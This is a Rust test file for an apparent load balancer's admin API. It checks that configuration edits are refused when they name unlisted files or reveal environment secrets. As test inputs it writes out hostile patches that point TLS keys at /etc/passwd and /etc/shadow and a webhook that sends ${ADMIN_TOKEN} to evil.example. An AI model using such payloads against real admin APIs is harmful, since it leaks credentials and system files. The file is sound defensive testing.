//! What the admin API leaves to whoever can write the configuration file.
#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing)]

use loadweaver_testkit::config::one_pool;
use loadweaver_testkit::{Balancer, Operator};
use serde_json::{Value, json};

const BINARY: &str = env!("CARGO_BIN_EXE_loadweaver");

fn balancer(patch: &Value, environment: &[(&str, &str)]) -> Balancer {
    let config = one_pool(&["127.0.0.1:3001".parse().unwrap()], patch);
    Balancer::start_with(BINARY, &config, environment)
}

/// Sends a merge patch and expects a 403 of this kind.
#[track_caller]
fn refuses(operator: &Operator, code: &str, patch: &Value) {
    for query in ["?dryRun=true", ""] {
        let lines = "Content-Type: application/merge-patch+json\r\n";
        let answer = operator.ask("PATCH", &format!("/api/config{query}"), lines, &patch.to_string());
        let text = String::from_utf8(answer.body).unwrap();
        let body: Value = serde_json::from_str(&text).unwrap();
        assert_eq!((answer.status, &body["error"]["code"]), (403, &json!(code)), "{patch}: {text}");
        assert!(!text.contains("top-secret"), "{text}");
    }
}

#[test]
fn an_edit_reads_and_writes_no_file_that_the_file_does_not_name() {
    let balancer = balancer(&json!({"events": null}), &[]);
    let operator = balancer.operator();
    let before = balancer.config_text();
    let target = balancer.folder().join("made-by-the-api");
    refuses(&operator, "names_file", &json!({"events": {"file": target}}));
    refuses(&operator, "names_file", &json!({"accessLog": {"output": target}}));
    refuses(
        &operator,
        "names_file",
        &json!({"admin": {"tls": {"cert": "/etc/passwd", "key": "/etc/shadow"}}}),
    );
    refuses(
        &operator,
        "names_file",
        &json!({"webhooks": [{"url": "https://a.example/", "caFile": "/etc/passwd"}]}),
    );
    assert!(!target.exists());
    assert_eq!(balancer.config_text(), before);
    assert_eq!(balancer.version(), 1);
}

#[test]
fn an_edit_may_go_back_to_a_file_that_an_earlier_version_named() {
    let scratch = loadweaver_testkit::scratch::Scratch::new();
    let file = scratch.path().join("events.jsonl");
    let balancer = balancer(&json!({"events": {"file": file}}), &[]);
    let operator = balancer.operator();
    let lines = "Content-Type: application/merge-patch+json\r\n";
    assert_eq!(operator.ask("PATCH", "/api/config", lines, "{\"events\": {\"keep\": 2}}").status, 200);
    assert_eq!(operator.ask("PATCH", "/api/config", lines, "{\"events\": null}").status, 200);
    operator.must(200, "POST", "/api/config/rollback", &json!({"version": 1}));
}

#[test]
fn an_edit_shows_nobody_what_is_in_the_environment() {
    let named = json!({"admin": {"tokens": [{"token": "${ADMIN_TOKEN}", "role": "write"}]}});
    let token = "top-secret-admin-token";
    let balancer = balancer(&named, &[("ADMIN_TOKEN", token), ("OTHER", "top-secret-other")]);
    let operator = balancer.operator().with_token(token);
    let fallback = |body: &str| json!({"pools": {"app": {"fallback": {"body": body}}}});
    refuses(&operator, "names_variable", &fallback("${OTHER}"));
    refuses(&operator, "names_variable", &fallback("${ADMIN_TOKEN}"));
    refuses(&operator, "names_variable", &json!({"workers": "${OTHER:-1}"}));
    let hook =
        json!({"webhooks": [{"url": "https://evil.example/", "headers": {"x-token": "${ADMIN_TOKEN}"}}]});
    refuses(&operator, "names_variable", &hook);
    operator.must(200, "PUT", "/api/config", &operator.data("/api/config"));
    let sent = json!({"host": "${OTHER}", "port": 3002});
    let (status, answer) = operator.send("POST", "/api/servers", &sent);
    assert_eq!((status, &answer["error"]["issues"][0]["at"]), (403, &json!("")), "{answer}");
}
